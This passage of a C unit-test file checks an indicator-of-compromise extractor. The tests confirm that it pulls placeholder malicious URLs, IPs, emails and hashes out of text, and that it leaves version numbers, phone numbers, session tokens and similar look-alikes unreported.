	    "<!DOCTYPE plist SYSTEM \"http://www.apple.com/DTDs/PropertyList"
	    "-1.0.dtd\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\">\n"
	    "<stix:STIX_Package xmlns:stix=\"http://stix.mitre.org/stix-1\" "
	    "xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
	    "xsi:schemaLocation=\"http://stix.mitre.org/stix-1 http://stix."
	    "mitre.org/XMLSchema/core/1.2/stix_core.xsd\n    urn:x http://"
	    "cybox.mitre.org/x.xsd\">\n<a href=\"http://evil-site.com/x\">, "
	    "<x data=\"http://evil5.com/r\">, URL: http://evil2.com/y, at "
	    "10:30 http://evil3.com/z, \"http://evil4.com/q\"",
	    "url http://evil-site.com/x public\ndomain evil-site.com public\n"
	    "url http://evil5.com/r public\ndomain evil5.com public\n"
	    "url http://evil2.com/y public\ndomain evil2.com public\n"
	    "url http://evil3.com/z public\ndomain evil3.com public\n"
	    "url http://evil4.com/q public\ndomain evil4.com public\n");
	/* those words alone, or a range between two addresses */
	expect("bis 9.1.2.70, à 9.1.2.71, la 9.1.2.72, vor 9.1.2.73, auf "
	    "9.1.2.74, en 9.1.2.75, de 9.1.2.76 a 9.1.2.77, hosts in 9.1.2.78",
	    "ipv4 9.1.2.70 public\nipv4 9.1.2.71 public\n"
	    "ipv4 9.1.2.72 public\nipv4 9.1.2.73 public\n"
	    "ipv4 9.1.2.74 public\nipv4 9.1.2.75 public\n"
	    "ipv4 9.1.2.76 public\nipv4 9.1.2.77 public\n"
	    "ipv4 9.1.2.78 public\n");
	/* two dots in a row: no address (RFC 5322's dot-atom), nor a
	 * part of it */
	expect("john..doe@evil-mail.ru john.doe@evil-mail.ru",
	    "email john.doe@evil-mail.ru public\n");
	/* addresses at Gmail and Outlook, and local parts that are
	 * no Mutt's id */
	expect("scammer@gmail.com, x@outlook.com, 20261124083011.GA12345x@"
	    "evil.com, 2026112408301.GA12345@evil.com",
	    "email scammer@gmail.com public\nemail x@outlook.com public\n"
	    "email 20261124083011.GA12345x@evil.com public\n"
	    "email 2026112408301.GA12345@evil.com public\n");
	/* no system's name: a device, an attack, a till, a word in
	 * capitals; an address too large for a release; Russian's "по"
	 * (by, along) */
	expect("FortiGate 9.1.2.65, DDoS 9.1.2.66, POS 9.1.2.67, CHAOS "
	    "9.1.2.68, FortiOS 45.77.164.12, доступ по 9.1.2.69",
	    "ipv4 9.1.2.65 public\nipv4 9.1.2.66 public\n"
	    "ipv4 9.1.2.67 public\nipv4 9.1.2.68 public\n"
	    "ipv4 45.77.164.12 public\nipv4 9.1.2.69 public\n");
	expect("Amazon EC2 3.1.2.3, Google Cloud 8.1.2.3, Huawei ECS 9.1.2.49",
	    "ipv4 3.1.2.3 public\nipv4 8.1.2.3 public\n"
	    "ipv4 9.1.2.49 public\n");
	expect("Cisco A B C D 9.1.2.33", "ipv4 9.1.2.33 public\n");
	/* ... a key or word that names an address, or none of a
	 * version's, before the product's name */
	expect("version: IP 9.1.2.61; Version: Host 9.1.2.62; affected: EPMM "
	    "9.1.2.63; in EPMM 9.1.2.64",
	    "ipv4 9.1.2.61 public\nipv4 9.1.2.62 public\n"
	    "ipv4 9.1.2.63 public\nipv4 9.1.2.64 public\n");
	expect("Cisco, ASA 9.1.2.34; Cisco: ASA 9.1.2.35 Cisco ASA: 9.1.2.36",
	    "ipv4 9.1.2.34 public\nipv4 9.1.2.35 public\n"
	    "ipv4 9.1.2.36 public\n");
	/* a train that is not the address's first numbers, one of 32 or
	 * more (a /24 before a host in it), a number alone before it; a
	 * range's end, a host's name after a dash */
	expect("9.16 9.17.4.42, 1.9.16 9.16.4.43, 203.0.113 203.0.113.5, "
	    "9 9.1.2.37, 9. 9.1.2.38",
	    "ipv4 9.17.4.42 public\nipv4 9.16.4.43 public\n"
	    "ipv4 203.0.113.5 documentation\nipv4 9.1.2.37 public\n"
	    "ipv4 9.1.2.38 public\n");
	/* a word that ends as one of those, "bản" alone, a word of
	 * another script */
	expect("perversion 9.1.2.50, the bản 9.1.2.51, адрес 9.1.2.52, "
	    "xversi 9.1.2.53",
	    "ipv4 9.1.2.50 public\nipv4 9.1.2.51 public\n"
	    "ipv4 9.1.2.52 public\nipv4 9.1.2.53 public\n");
	/* an element of another name, a plist's other keys, a string
	 * alone */
	expect("<td>9.1.3.5</td><ip>9.1.3.6</ip><key>ServerIP</key><string>"
	    "9.1.3.7</string> <string>9.1.3.8</string> <a href=x>9.1.3.9",
	    "ipv4 9.1.3.5 public\nipv4 9.1.3.6 public\n"
	    "ipv4 9.1.3.7 public\nipv4 9.1.3.8 public\n"
	    "ipv4 9.1.3.9 public\n");
	/* ... an address after such words, others after one, a word
	 * going on, Korean's "이전" alone (a server's move) */
	expect("9.1.2.54 y anteriores 9.1.2.55, 9.1.2.56 y otros, 9.1.2.57 e "
	    "anterioresx, 9.1.2.58 이전 예정",
	    "ipv4 9.1.2.54 public\nipv4 9.1.2.55 public\n"
	    "ipv4 9.1.2.56 public\nipv4 9.1.2.57 public\n"
	    "ipv4 9.1.2.58 public\n");
	/* a number after an address, a build's '#' with no kernel's
	 * words after it */
	expect("host 9.1.2.44 #1 offender, 9.1.2.45 #2 SMPx, 9.1.2.46 #3 "
	    "Monday, 9.1.2.47 #x SMP, Linux's 9.1.2.48",
	    "ipv4 9.1.2.44 public\nipv4 9.1.2.45 public\n"
	    "ipv4 9.1.2.46 public\nipv4 9.1.2.47 public\n"
	    "ipv4 9.1.2.48 public\n");
	expect("9.1.2.39-dsl, 9.1.2.40-57sv.example.com, 9.1.2.42-57s, "
	    "9.1.2.43-57sv2",
	    "ipv4 9.1.2.39 public\nipv4 9.1.2.40 public\n"
	    "ipv4 9.1.2.42 public\nipv4 9.1.2.43 public\n");
}

/* A version that a program's resources, a .NET assembly, a manifest or
 * a package names by a key (one word with "Version" in it, or in quotes
 * after one): each gave an address, that of a network that has nothing
 * to do with the sample. */
static void
test_named_versions(void **state)
{
	(void)state;
	expect("FileVersion: 1.0.0.1\nProductVersion 2.3.0.7\n"
	    "[assembly: AssemblyVersion(\"1.0.0.2\")]\n"
	    "[assembly: AssemblyFileVersion('3.1.0.4')]\n"
	    "System.Web, Version=4.0.0.6, Culture=neutral\n"
	    "<assemblyIdentity version=\"6.0.0.3\" name=\"x\"/>\n"
	    "{\"version\": \"2.4.1.8\", \"min_version\":\"2.4.0.1\"}\n"
	    "pkgver=1.4.0.2 engine-version 5.1.0.9 OSVersion=6.1.7.1\n"
	    "File Version Number             : 1.0.0.4\n"
	    "Build Number: 1.0.0.5 VALUE \"FileVersion\", \"1.0.0.7\"\n"
	    "AssemblyVersion( \"1.0.0.8\") version==1.0.0.9\n", "");
	/* "number" first in the text, before an address: the word
	 * before it is not looked for (AddressSanitizer saw it read
	 * before the text) */
	expect("number 198.51.100.20", "ipv4 198.51.100.20 documentation\n");
	/* an address after another word, in quotes or parentheses; a
	 * word that only ends so; quotes that do not pair, or no key's
	 * ':' or ',' between */
	expect("conversion 1.0.0.1 diversion: 1.0.0.2 x_version 1.0.0.3\n"
	    "connect(\"198.51.100.9\") host=\"198.51.100.10\"\n"
	    "ip: \"198.51.100.11\" Version \"198.51.100.12\"\n"
	    "'version\": '198.51.100.13' Version(198.51.100.14)\n"
	    "phone number 198.51.100.15 \"host\", \"198.51.100.16\"\n"
	    "\"version\" \"198.51.100.17\" \"version\",'198.51.100.18'\n"
	    "version, \"198.51.100.19\"",
	    "ipv4 1.0.0.1 public\nipv4 1.0.0.2 public\n"
	    "ipv4 198.51.100.9 documentation\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "ipv4 198.51.100.11 documentation\n"
	    "ipv4 198.51.100.13 documentation\n"
	    "ipv4 198.51.100.14 documentation\n"
	    "ipv4 198.51.100.15 documentation\n"
	    "ipv4 198.51.100.16 documentation\n"
	    "ipv4 198.51.100.17 documentation\n"
	    "ipv4 198.51.100.18 documentation\n"
	    "ipv4 198.51.100.19 documentation\n");
}

/* A phone number that dots write as an address, after a phone's word
 * or a country's calling code: a partner's signature, which gave an
 * address to notify. */
static void
test_phone_numbers(void **state)
{
	(void)state;
	expect("Tel +49 30.12.34.56\nFax: +32 2.123.45.67\n"
	    "Mobile:44.123.45.67, T\xc3\xa9l. : 2.123.45.68\n"
	    "\xe8\x81\x94\xe7\xb3\xbb\xe7\x94\xb5\xe8\xaf\x9d "
	    "44.123.45.68 \xe4\xbc\xa0\xe7\x9c\x9f\xef\xbc\x9a"
	    "44.123.45.69\n"
	    "Telefon 30.12.34.57, 30.12.34.58; tel. 30.12.34.59\n"
	    "+41 44.123.45.70, Tel\xc3\xa9\x66ono: 44.123.45.71\n",
	    "");
	/* no phone's word, or a '+' of no calling code: an address */
	expect("host 44.123.45.67, hotel 44.123.45.68\n"
	    "x+49 30.12.34.56 +10.0.0.1 + 10.0.0.2 CVE+1234 30.12.34.57\n"
	    "Telefon 30.12.34.58 and host 30.12.34.59, +1234 30.12.34.60",
	    "ipv4 44.123.45.67 public\nipv4 44.123.45.68 public\n"
	    "ipv4 30.12.34.56 public\nipv4 10.0.0.1 private\n"
	    "ipv4 10.0.0.2 private\nipv4 30.12.34.57 public\n"
	    "ipv4 30.12.34.59 public\nipv4 30.12.34.60 public\n");
}

/* Hex of a digest's length that its name says is something else: a
 * session's or a request's id, a token, a ledger's transaction, a
 * commit, a certificate's serial number. Before, each was an md5, a
 * sha1 or a sha256 nobody reported. */
static void
test_other_values(void **state)
{
	(void)state;
	expect("Cookie: PHPSESSID=5f4dcc3b5aa765d61d8327deb882cf99; path=/\n"
	    "JSESSIONID=6f4dcc3b5aa765d61d8327deb882cf99\n"
	    "GET /login?token=8f14e45fceea167a5a36dedd4bea2543 HTTP/1.1\n"
	    "X-Request-ID: 9f14e45fceea167a5a36dedd4bea2543\n"
	    "Request ID: af14e45fceea167a5a36dedd4bea2543\n"
	    "{\"requestId\": \"bf14e45fceea167a5a36dedd4bea2543\", "
	    "\"api_key\":\"cf14e45fceea167a5a36dedd4bea2543\"}\n"
	    "csrf_token=df14e45fceea167a5a36dedd4bea2543\n"
	    "CF-Ray: ef14e45fceea167a5a36dedd4bea2543\n",
	    "");
	expect("ransom paid in transaction 4a5e1e4baab89f3a32518a88c31bc87f"
	    "618f76673e2cc77ab2127b7afdeda33b\n"
	    "txid: 5a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7a"
	    "fdeda33b\n"
	    "tx hash 6a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7a"
	    "fdeda33b\n"
	    "Fixed upstream in commit 4f786850e387550fdab836ed7e6dc881de23001b"
	    " (v2.3); commit_id=5f786850e387550fdab836ed7e6dc881de23001b, "
	    "revision 6f786850e387550fdab836ed7e6dc881de23001b\n",
	    "");
	/* a link's query without a scheme: its values are tokens, and
	 * one is a digest only after a sample's key, as in a URL's; a
	 * value outside a query is one. Before, both gave an MD5. */
	expect("evil[.]com/login.php?id=0f14e45fceea167a5a36dedd4bea2543&x=1 "
	    "evil.net/a?u=1f14e45fceea167a5a36dedd4bea2543 "
	    "x.example.com/s.php?a=1&file_hash=2f14e45fceea167a5a36dedd4bea254"
	    "3 id=3f14e45fceea167a5a36dedd4bea2543",
	    "url http://evil.com/login.php?id=0f14e45fceea167a5a36dedd4bea2543"
	    "&x=1 public defanged\n"
	    "domain evil.com public defanged\n"
	    "url http://evil.net/a?u=1f14e45fceea167a5a36dedd4bea2543 public\n"
	    "domain evil.net public\n"
	    "url http://x.example.com/s.php?a=1&file_hash=2f14e45fceea167a5a36"
	    "dedd4bea2543 documentation\n"
	    "domain x.example.com documentation\n"
	    "md5 2f14e45fceea167a5a36dedd4bea2543 public\n"
	    "md5 3f14e45fceea167a5a36dedd4bea2543 public\n");
	/* a digest of a program's imports (Sysmon's Hashes field) or of
	 * a TLS or SSH client's greeting (Suricata's eve.json): no
	 * sample's; the sample's own beside them stay */
	expect("<Data Name=\"Hashes\">SHA1=2FD4E1C67A2D28FCED849EE1BB76E7391B"
	    "93EB12,MD5=9E107D9D372BB6826BD81D3542A419D6,IMPHASH=A1B2C3D4E5F"
	    "60718293A4B5C6D7E8F90</Data>\n"
	    "{\"tls\":{\"ja3\":{\"hash\":\"e7d705a3286e19ea42f587b344ee6865\","
	    "\"string\":\"771,4865\"},\"ja3s\": { \"hash\" : \"f4febc55ea12b31"
	    "ae17cfb7e614afda8\"}}, \"ssh\":{\"hassh\":\"ec7378c1a92f5a8dde7e8"
	    "b7a1ddf33d1\"}, \"fileinfo\":{\"hash\":\"8e107d9d372bb6826bd81d35"
	    "42a419d6\"}}\n"
	    "ja3_hash: d7d705a3286e19ea42f587b344ee6865\n"
	    "ja3: c7d705a3286e19ea42f587b344ee6865, JA3=b7d705a3286e19ea42f5"
	    "87b344ee6865 (JA3 a7d705a3286e19ea42f587b344ee6865)\n"
	    "ETag: \"c41d8cd98f00b204e9800998ecf8427e\"\n"
	    "X-Amz-Cf-Id: 3f4dcc3b5aa765d61d8327deb882cf99\n",
	    "sha1 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12 public\n"
	    "md5 9e107d9d372bb6826bd81d3542a419d6 public\n"
	    "md5 8e107d9d372bb6826bd81d3542a419d6 public\n");
	/* openssl's -serial, and -text's, the number on the next line */
	expect("serial=0CE7E0E517D846FE8FE560FC1BF03039\n"
	    "        Serial Number:\n"
	    "            1c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:f0:30:39\n"
	    "    Serial Number: 2ce7e0e517d846fe8fe560fc1bf03039\r\n"
	    "    SerialNumber:\r\n      3c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:"
	    "1b:f0:30:39\n",
	    "");
	/* a mark after the pairs, or quotes around them, and the same
	 * pairs again where no name says serial: a digest there (once
	 * remembered as nothing, the second went missing) */
	expect("Serial Number:\n    1c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:"
	    "f0:30:39.\nThe sample: 1c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:"
	    "f0:30:39.\nserial: \"2c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:f0:"
	    "30:39\"\ndrops \"2c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:f0:30:"
	    "39\"\n",
	    "md5 1ce7e0e517d846fe8fe560fc1bf03039 public\n"
	    "md5 2ce7e0e517d846fe8fe560fc1bf03039 public\n");
	/* named as a digest, or by no such name: a digest still */
	expect("md5=5f4dcc3b5aa765d61d8327deb882cf90\n"
	    "file_hash: 6f4dcc3b5aa765d61d8327deb882cf90\n"
	    "parent_sha1=3f786850e387550fdab836ed7e6dc881de230010\n"
	    "Hashes: SHA1=4f786850e387550fdab836ed7e6dc881de230010,"
	    "MD5=7f4dcc3b5aa765d61d8327deb882cf90\n"
	    "{\"sha256\": \"4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77a"
	    "b2127b7afdeda330\"}\n"
	    "Subject:\n 8f4dcc3b5aa765d61d8327deb882cf90\n"
	    "dropper (9f4dcc3b5aa765d61d8327deb882cf90) and "
	    "Sessions: af4dcc3b5aa765d61d8327deb882cf90\n"
	    "Serial Number: of the sample bf4dcc3b5aa765d61d8327deb882cf90\n"
	    "a new session\n    cf4dcc3b5aa765d61d8327deb882cf90\n",
	    "md5 5f4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "md5 6f4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "sha1 3f786850e387550fdab836ed7e6dc881de230010 public\n"
	    "sha1 4f786850e387550fdab836ed7e6dc881de230010 public\n"
	    "md5 7f4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "sha256 4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7"
	    "afdeda330 public\n"
	    "md5 8f4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "md5 9f4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "md5 af4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "md5 bf4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "md5 cf4dcc3b5aa765d61d8327deb882cf90 public\n");
	/* of a digest's length, and no hex: what it is */
	expect("token: dead0beef1.badsite-example12.com\n"
	    "session dead0beef2.badsite-example12.com",
	    "domain dead0beef1.badsite-example12.com public\n"
	    "domain dead0beef2.badsite-example12.com public\n");
	/* the same hex named both ways, again and again (the memo's
	 * tokens): a digest where it is one, each time */
	expect("sid=cf4dcc3b5aa765d61d8327deb882cf90 "
	    "sid=cf4dcc3b5aa765d61d8327deb882cf90 "
	    "md5 cf4dcc3b5aa765d61d8327deb882cf90 "
	    "sid=df4dcc3b5aa765d61d8327deb882cf90 "
	    "md5 df4dcc3b5aa765d61d8327deb882cf90 "
	    "md5 df4dcc3b5aa765d61d8327deb882cf90 "
	    "sid=df4dcc3b5aa765d61d8327deb882cf90 "
	    "sid=df4dcc3b5aa765d61d8327deb882cf90",
	    "md5 cf4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "md5 df4dcc3b5aa765d61d8327deb882cf90 public\n"
	    "md5 df4dcc3b5aa765d61d8327deb882cf90 public\n");
}

/* A DNS service label's '_' is the name's; Markdown's emphasis is not.
 * A link copied from a page's source has its '&' back. Before, the
 * first gave "dmarc.evil.com", a name nobody wrote, and the links kept
 * "&amp;", which matches no log's URL. */
static void
test_underscores_and_amp(void **state)
{
	(void)state;
	expect("TXT _dmarc.evil.com, _acme-challenge.evil.org and "
	    "_sip._tcp.evil.net",
	    "domain _dmarc.evil.com public\n"
	    "domain _acme-challenge.evil.org public\n"
	    "domain _sip._tcp.evil.net public\n");
	expect("see _evil.com_ and __evil.org__.",
	    "domain evil.com public\n"
	    "domain evil.org public\n");
	expect("<a href=\"http://evil.com/a?x=1&amp;y=2&AMP;z=3&w\">",
	    "url http://evil.com/a?x=1&y=2&z=3&w public\n"
	    "domain evil.com public\n");
}

static int
span_one(const struct ioc *ioc, void *arg)
{
	void **a = arg;

	buf_addf(a[1], "%s=%.*s\n", ioc->value, (int)ioc->length,
	    (const char *)a[0] + ioc->offset);
	return 0;
}

/* Each indicator's offset and length are its bytes as written, rewrites
 * at the text's end too. */
static void
test_spans(void **state)
{
	static const char *const texts[] = {
		"ip １．２．３．４",
		"ip hxxp://[evil.com]",
		"x evil[.]com y",
		"x evil[.]com",
		"x 1.2.3[.]4",
		"9.9.9.9\u20131.1.1.1 7.100.51.198.in-addr.arpa",
		"x evil [.] com y 198.51.100 [.] 7",
		"x evil [ . ] com y c2( dot )net",
		"inetnum:  \t200.160/12 \nx paypal\u2024com",
		"MD5 Fingerprint=D4:1D:8C:D9:8F:00:B2:04:E9:80:09:98:EC:F8:42:"
		    "7E\n",
		"x evil[.]com/a?b=1 y",
		"(AS4134/4837) #CVE-2024-3094",
		"<https://evil.com/a/\n  b> <https://x.evil.com/\n c>",
	};
	static const char *const want[] = {
		"1.2.3.4=１．２．３．４\n",
		"http://evil.com=hxxp://[evil.com]\nevil.com=[evil.com]\n",
		"evil.com=evil[.]com\n",
		"evil.com=evil[.]com\n",
		"1.2.3.4=1.2.3[.]4\n",
		"9.9.9.9=9.9.9.9\n1.1.1.1=1.1.1.1\n"
		    "198.51.100.7=7.100.51.198.in-addr.arpa\n",
		"evil.com=evil [.] com\n198.51.100.7=198.51.100 [.] 7\n",
		"evil.com=evil [ . ] com\nc2.net=c2( dot )net\n",
		"200.160.0.0/12=200.160/12\npaypal.com=paypal\u2024com\n",
		"d41d8cd98f00b204e9800998ecf8427e=D4:1D:8C:D9:8F:00:B2:04:E9:80:"
		    "09:98:EC:F8:42:7E\n",
		"http://evil.com/a?b=1=evil[.]com/a?b=1\nevil.com=evil[.]com\n",
		"AS4134=AS4134\nAS4837=4837\nCVE-2024-3094=CVE-2024-3094\n",
		"https://evil.com/a/b=https://evil.com/a/\n  b\n"
		    "evil.com=evil.com\n"
		    "https://x.evil.com/c=https://x.evil.com/\n c\n"
		    "x.evil.com=x.evil.com\n",
	};
	struct ioc_scanner *sc = ioc_scanner_new();
	struct buf out = BUF_INIT;
	void *arg[2];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		arg[0] = (void *)texts[i];
		arg[1] = &out;
		buf_reset(&out);
		buf_addstr(&out, "");
		ioc_scan(sc, texts[i], strlen(texts[i]), 0, span_one, arg);
		assert_string_equal(out.data, want[i]);
	}
	buf_release(&out);
	ioc_scanner_free(sc);
}

/* A part of a long input cut inside PGP armor (its BEGIN line in the
 * part before) starts as armor: its header fields and base64 up to the
 * END line are skipped. One whose first lines are not armor's is read
 * as text, and so is a whole text (base 0): its first line is its
 * first. */
static void
test_armor_across_parts(void **state)
{
	static const struct {
		const char *text;
		size_t base;
		const char *want;
	} cases[] = {
		{ "Comment: https://keys.example.org/k\r\nHash: SHA256\n\n"
		    "wsBcBAEBCAAQBQJnQ2xv+/abc=\r\n=XyZw\n"
		    "-----END PGP SIGNATURE-----\nsee 198.51.100.7\n", 131000,
		    "ipv4 198.51.100.7 documentation\n" },
		{ "wsBcBAEBCAAQBQJn\n-----END PGP MESSAGE-----\n"
		    "http://evil.example.com/x\n", 4096,
		    "url http://evil.example.com/x documentation\n"
		    "domain evil.example.com documentation\n" },
		{ "Comment: https://keys.example.org/k\n\n"
		    "-----END PGP SIGNATURE-----\n", 0,
		    "url https://keys.example.org/k documentation\n"
		    "domain keys.example.org documentation\n" },
		{ "Hello 198.51.100.8\n-----END PGP SIGNATURE-----\n", 4096,
		    "ipv4 198.51.100.8 documentation\n" },
		{ "wsBc\n\nComment: https://keys.example.org/k\n"
		    "-----END PGP SIGNATURE-----\n", 4096,
		    "url https://keys.example.org/k documentation\n"
		    "domain keys.example.org documentation\n" },
	};
	size_t i;
	char *got;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		got = scan_part(cases[i].text, cases[i].base);
		assert_string_equal(got, cases[i].want);
		free(got);
	}
}

/* A name under .xxx that is no masked address stays one: another
 * label, a number past 255 or of four digits, two labels or five (the
 * masked ones are test_no_invention's, "198.51.100.xxx"). */
static void
test_masked_addresses(void **state)
{
	(void)state;
	expect("casino.xxx 69.xxx 256.1.1.xxx 1.2.3.4.xxx 1234.5.6.xxx "
	    "0001.2.3.xxx 12.ab.xxx 198.51.100.7",
	    "domain casino.xxx public\n"
	    "domain 69.xxx public\n"
	    "domain 256.1.1.xxx public\n"
	    "domain 1.2.3.4.xxx public\n"
	    "domain 1234.5.6.xxx public\n"
	    "domain 0001.2.3.xxx public\n"
	    "domain 12.ab.xxx public\n"
	    "ipv4 198.51.100.7 documentation\n");
}

/* What must not come out: each of these is not an indicator. */
static void
test_no_invention(void **state)
{
	static const char *const quiet[] = {
		"version 1.2.3.4, v10.0.0.1, OpenSSL 1.1.1w, Ver. 2.0.0.1",
		"version=1.2.3.4 ver=2.0.0.1 v=3.0.0.1 version:4.0.0.1 "
		    "Version: 6.0.0.1 client_version=7.0.0.1",
		/* builds, firmware, revisions; a version in parentheses
		 * after another (a mailer's) */
		"nginx build 1.2.3.4, firmware 1.0.0.12, FW: 2.1.0.5, "
		    "rev. 3.0.0.1 Rev 3.0.0.2 revision 3.0.0.3",
		"Mailer: Version 1.8 (1.8.2.5), v2.1 (2.1.0.7), "
		    "version: 3.1 (3.1.0.7)",
		/* versions and numbering in Chinese, Japanese and Korean,
		 * with no blank before the number, or a full-width colon */
		"版本 1.2.3.4 版本号：2.1.0.5 固件版本3.0.0.1 软件版本v4.0.0.1 "
		    "バージョン5.0.0.1 버전 6.0.0.1 第1.2.3.4节 表 1.2.3.5 "
		    "图 1.2.3.6",
		/* ... after Chinese punctuation, and "see the table", "as
		 * the figure shows" (session 35: 2.1.1.1 and the others
		 * were addresses) */
		"受影响设备，表 2.1.1.1 列出。图 3.1.1.1 显示（第1.2.3.7节）"
		    "详见表4.1.1.1，如图 5.1.1.1 所示，见图6.1.1.1",
		"建议升级至 2.17.1.0 以上，或升级到2.12.4.0，固件升级为 7.0.1.2",
		/* ... and the words after one: version, and earlier, and
		 * below, and above, a range to such a one */
		"FortiOS 7.2.4.1 及之前版本，低于 3.1.2.4 的版本，6.1.2.3版本，"
		    "2.1.0.5及以上，1.9.9.9 以下，影响 2.0.0.0 至 2.14.1.0 版本",
		/* a browser's version, as a User-Agent gives it */
		"Chrome 120.0.0.0, Firefox 115.0.0.1, Safari 17.0.0.1, "
		    "Chromium 120.0.0.0 Opera 105.0.0.0 MSIE 11.0.0.1",
		/* a document's numbering */
		"section 3.2.1.4, Sec. 4.1.2.3, sect. 5.1.1.1, Table "
		    "1.2.3.4: x, Fig. 2.1.3.4, figure 2.1.3.5, chapter 1.1.1.2, "
		    "clause 1.1.1.3, appendix 1.1.1.4, \u00a7 1.1.1.5, OID "
		    "2.5.4.3",
		/* object identifiers: as a key's value, after "object
		 * identifier", and certutil's dump of an extension */
		"oid=2.5.29.15 OID: 2.5.29.19 Object Identifier: 2.5.29.17 "
		    "OBJECT IDENTIFIER 2.5.4.3\n"
		    "    2.5.29.37: Flags = 0, Length = 16",
		"on 22.11.2026 at 10:30:00, 2026-11-22T08:00:00Z",
		/* a security advisory's versions: after its words, and
		 * listed after another version */
		"Affected versions: 2.0.0.1 through 2.0.0.9. Fixed in "
		    "4.1.0.3; upgrade to 4.1.0.4 or later; versions prior to "
		    "2.3.0.1, up to 5.0.0.2, versions before 5.0.0.3, "
		    "firmware before 5.0.0.4. Update to 6.0.0.1. Patched in "
		    "7.0.0.1, resolved in 7.0.0.2, addressed in 7.0.0.3, "
		    "introduced in 7.0.0.4, updated to 7.0.0.5, upgraded to "
		    "7.0.0.6, patched in release 7.0.0.7. Builds: build "
		    "8.0.0.1 and 8.0.0.2, 8.0.0.3 "
		    "thru 8.0.0.4 until 8.0.0.5 & 8.0.0.6 - 8.0.0.7",
		"versions 1.0.0.1, 1.0.0.2, 1.0.0.3, 1.0.0.4, 1.0.0.5, "
		    "1.0.0.6, 1.0.0.7, 1.0.0.8 or 1.0.0.9; v3.0.0.1, 3.0.0.2, "
		    "and 3.0.0.3",
		/* Cisco's advisories: releases, a fixed release, and
		 * words after a release */
		"Cisco ASA Software 9.16.3.19 and earlier, FTD 7.2.4.1 and "
		    "later. First Fixed Release: 9.18.2.5; fixed release "
		    "9.16.3.20. ASA releases 9.16.3.21 through 9.16.3.22, "
		    "releases earlier than 9.16.3.23, later than 9.16.3.24, "
		    "9.16.3.25 or later, 9.16.3.26 and prior, 9.16.3.27 or "
		    "newer, 9.16.3.28 and older, 31.16.3.29 or higher",
		/* what a range or an upgrade goes to is a version that
		 * cannot be an address (three numbers): so is its start */
		/* a time with dots, after a date or alone, an uptime, a
		 * group of two digits with a leading zero anywhere: no
		 * padded address is written so ("008") */
		"Time 2026.11.20 08.15.22.123", "at 09.30.00.250 UTC",
		"00.1.2.3", "uptime 3.02.04.15", "1.2.3.04",
		/* a document's sections, plural too */
		"see sections 2.1.3.4 and 3.4.5.6 of RFC 9110",
		"Upgrade BIG-IP 17.1.0.3 to 17.1.1.",
		"From 7.2.5.1 TO 7.2.7;", "Affected: 9.16.4.42 - 9.16.5",
		"Affected: 9.16.4.43-9.16.6", "9.16.4.44 ~ 9.16.7",
		"Affected 9.16.4.45 \xe2\x80\x93 9.16.7",
		"9.16.4.46 through 9.16.8a", "9.16.4.47 thru 31.16.9.",
		/* an upgrade with what it upgrades between it and its
		 * "to"; the words after a release; a hotfix, a software's
		 * version; a requirement's comparison */
		"Upgrade BIG-IP to 17.1.0.3",
		"upgrade the F5 BIG-IP to 17.1.0.4",
		"upgraded ASA to 9.16.4.48", "Upgrade Node.js to 20.1.0.2",
		"9.16.4.42 and below",
		"3.1.2.4 or lower", "7.1.2.5 and above", "hotfix 9.16.4.43",
		"ASA Software 9.16.4.44", "Software Release 9.16.4.45",
		">= 9.16.4.46", "<=17.1.0.5",
		/* an upgrade from one version, upgrading, an upgrade or an
		 * update to a product's version */
		"upgrade from 9.16.4.49 to 9.18.2.5",
		"upgrading ASA to 9.18.2.6", "upgrading to 17.1.0.6",
		"Upgrade to BIG-IP 17.1.0.7",
		"Customers should update to Veeam 12.1.2.172",
		"updating to F5 BIG-IP 17.1.0.8",
		"Upgrade to BIG-IP: 17.1.0.9",
		"upgrade  to\tBIG-IP  17.1.0.10", "Upgrade  F5  to 17.1.0.11",
		/* a product's release after its vendor's name and its
		 * own (each gave the address of IBM's, AT&T's or the US
		 * DoD's network) */
		"Customers running Ivanti EPMM 11.10.0.3 should upgrade. "
		    "IBM WebSphere Application Server 8.5.5.24 has the fix; "
		    "so has Veeam Backup & Replication 12.1.2.172.",
		"Cisco IOS XE 17.9.4.1, Citrix ADC 13.1.49.15, Ivanti "
		    "Connect Secure 22.7.1.1, Palo Alto Networks PAN-OS "
		    "10.2.9.1",
		/* ... or after a version's key or word and the product's
		 * name, and the releases listed after it */
		"Fixed versions: EPMM 12.1.0.4, 12.0.0.5, 11.12.0.5. Fixed in "
		    "EPMM 12.1.0.6; version:ASA 9.20.2.10",
		/* ... and a build's number and letters after its dash */
		"SonicWall SMA 100 10.2.1.9-57sv and earlier, SMA 10.2.1.10-72sv",
		/* "version" in the languages other countries' CERTs and
		 * vendors write advisories in (each gave an address) */
		"versión 7.2.4.1, versiones 7.2.4.2, versão 7.2.4.3, "
		    "versões 7.2.4.4, versione 7.2.4.5, versioni 7.2.4.6, "
		    "Versionen 7.2.4.7, versie 7.2.4.8, versies 7.2.4.9, "
		    "wersja 7.2.4.10, wersji 7.2.4.11, wersje 7.2.4.12, verze "
		    "7.2.4.13, versi 7.2.4.14, versio 7.2.4.15, versiunea "
		    "7.2.4.16, versioner 7.2.4.17, sürüm 7.2.4.18, sürümü "
